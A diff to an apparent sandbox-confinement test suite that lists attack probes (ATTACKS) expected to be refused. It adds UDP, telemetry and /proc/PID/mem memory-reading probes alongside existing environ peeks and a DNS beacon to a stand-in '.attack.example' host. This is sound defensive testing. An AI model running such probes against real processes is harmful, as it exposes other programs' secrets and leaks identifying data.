@@ -24,10 +24,23 @@ _TRIAL_S = 20
 _ANSWER_S = 5
 _LINKER = "/lib64/ld-linux-x86-64.so.2"
 # Of the kernel's own tables for x86_64.
-_CLOCK_SETTIME, _INIT_MODULE, _PIDFD_OPEN, _PIDFD_GETFD = 227, 175, 434, 438
+_CLOCK_SETTIME, _INIT_MODULE = 227, 175
 _RING_SETUP, _RING_ENTER = 425, 426
 _PTRACE_SEIZE = 0x4206
 _CLONE_NEWUSER = 0x10000000
+
+_LOAD_ENGINE = """
+import onnxruntime, os, time
+time.sleep(2)
+kept = os.path.join(os.path.expanduser("~"), ".cache", "Microsoft")
+found = [kept] if os.path.exists(kept) else []
+for number in os.listdir("/proc/self/fd"):
+    try:
+        found.append(os.readlink("/proc/self/fd/" + number))
+    except OSError:
+        pass
+print([one for one in found if one == kept or one.startswith("socket:")])
+"""
 
 LIBC = ctypes.CDLL(None, use_errno=True)
 # Addresses, process numbers, and who attacks: what is heard outside bears that name.
@@ -76,7 +89,8 @@ def dns(_: str) -> None:
     socket.getaddrinfo(f"{FACTS['who']}.attack.example", 80, socket.AF_INET)
 
 
-def made(family: str, kind: int = socket.SOCK_RAW) -> None:
+def made(family: str) -> None:
+    kind = socket.SOCK_RAW if family in {"AF_NETLINK", "AF_PACKET"} else socket.SOCK_DGRAM
     socket.socket(getattr(socket, family), kind).close()
 
 
@@ -115,6 +129,21 @@ def _socket_by_ring(family: int, kind: int) -> int:
     if code < 0:
         raise OSError(-code, os.strerror(-code))
     return code
+
+
+def datagram(where: str) -> None:
+    """Sends to a place on this host; nobody need be there."""
+    host, _, port = where.partition("=")
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
+        datagrams.sendto(b"x", (host, int(port)))
+
+
+def telemetry(program: str) -> None:
+    """Loads onnxruntime as the service does; what it does by itself is the attack."""
+    words = [program, "-c", _LOAD_ENGINE]
+    done = subprocess.run(words, capture_output=True, text=True, check=True)
+    if done.stdout.strip() == "[]":
+        raise Refused("it left no file and opened no socket")
 
 
 # ---- Files ---------------------------------------------------------------------------------------
@@ -195,10 +224,13 @@ def peek(service: str) -> None:
     Path(f"/proc/{FACTS[service]}/environ").read_bytes()
 
 
-def steal(service: str) -> None:
-    """Takes a file that another process has open."""
-    handle = call("syscall", _PIDFD_OPEN, int(FACTS[service]), 0)
-    call("syscall", _PIDFD_GETFD, handle, 2, 0)
+def read_memory(service: str) -> None:
+    """Reads what another process holds in its memory."""
+    process = Path(f"/proc/{FACTS[service]}")
+    first = (process / "maps").read_text().partition("-")[0]
+    with (process / "mem").open("rb") as memory:
+        memory.seek(int(first, 16))
+        memory.read(16)
 
 
 def read_through(argument: str) -> None:
@@ -273,9 +305,9 @@ def code_in_memory(_: str) -> None:
 ATTACKS: dict[str, Callable[[str], None]] = {
     one.__name__: one
     for one in (
-        *(tcp, udp, dns, made, ping, unix, ring),
+        *(tcp, udp, dns, made, ping, unix, ring, datagram, telemetry),
         *(read, write, run, run_by_linker, load, set_uid_bit),
-        *(signal_to, trace, peek, steal, read_through, see),
+        *(signal_to, trace, peek, read_memory, read_through, see),
         *(become_root, set_uid_program, mount, user_namespace, chroot, module, clock, hostname),
         *(cgroup, core, personality, code_in_memory),
     )
